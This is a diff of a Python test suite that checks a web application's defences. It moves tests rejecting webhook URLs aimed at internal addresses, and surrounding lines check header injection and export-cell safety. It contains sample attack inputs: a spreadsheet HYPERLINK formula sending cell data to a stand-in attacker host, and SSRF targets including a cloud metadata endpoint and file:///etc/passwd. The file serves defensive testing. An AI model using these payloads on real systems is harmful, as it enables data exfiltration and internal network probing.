@@ -40,6 +40,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"open")'
 HIDDEN = re.compile(r'<input type="hidden" name="(\w+)" value="([^"]*)">')
 
 
+# One centre is open in a process at a time: the tests that share one stand before those that open their own.
 @pytest.fixture(scope="module")
 def shared_centre(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Centre]:
     opened = copied("hudaydah-2018", tmp_path_factory.mktemp("attacked") / "workspace")
@@ -162,6 +163,29 @@ def test_no_form_that_is_put_together_wrongly_makes_the_server_fail(head: str, s
     assert answer.status_code in (200, 400, 422) and "X-Injected" not in answer.headers
 
 
+INNER = (
+    "https://127.0.0.1/",
+    "https://localhost:443/",
+    "https://169.254.169.254/latest/meta-data/",
+    "https://[::1]/",
+    "https://[::ffff:10.0.0.1]/",
+    "https://2130706433/",
+    "https://0x7f000001/",
+    "http://example.org/",
+    "file:///etc/passwd",
+    "https://user:pw@127.0.0.1/",
+    "https://example.org:22/",
+)
+
+
+@pytest.mark.parametrize("address", INNER)
+def test_no_webhook_into_the_inner_network_can_be_noted_down(address: str, shared_site: Site) -> None:
+    administrator = visitor(shared_site, "administrator")
+    answer = posted(administrator, "/channels/", "/channels/add/", {"label": "Radio", "url": address})
+    assert answer.status_code == 422
+    assert not Subscription.objects.exists() and not Delivery.objects.exists()
+
+
 @pytest.mark.parametrize("text", TEXTS)
 def test_text_in_a_report_stays_text_until_the_desk_reads_it(text: str, site: Site, centre: Centre) -> None:
     sent = site.report(words=f"seen: {text}", who=text, where=text, contact=text)
@@ -197,29 +221,6 @@ def test_no_cell_of_an_export_can_be_run_by_a_spreadsheet(centre: Centre) -> Non
 
 def _is_number(cell: str) -> bool:
     return re.fullmatch(r"[+-]\d+(\.\d+)?(e[+-]?\d+)?", cell) is not None
-
-
-INNER = (
-    "https://127.0.0.1/",
-    "https://localhost:443/",
-    "https://169.254.169.254/latest/meta-data/",
-    "https://[::1]/",
-    "https://[::ffff:10.0.0.1]/",
-    "https://2130706433/",
-    "https://0x7f000001/",
-    "http://example.org/",
-    "file:///etc/passwd",
-    "https://user:pw@127.0.0.1/",
-    "https://example.org:22/",
-)
-
-
-@pytest.mark.parametrize("address", INNER)
-def test_no_webhook_into_the_inner_network_can_be_noted_down(address: str, shared_site: Site) -> None:
-    administrator = visitor(shared_site, "administrator")
-    answer = posted(administrator, "/channels/", "/channels/add/", {"label": "Radio", "url": address})
-    assert answer.status_code == 422
-    assert not Subscription.objects.exists() and not Delivery.objects.exists()
 
 
 def test_a_name_that_leads_inward_later_is_called_neither_then(
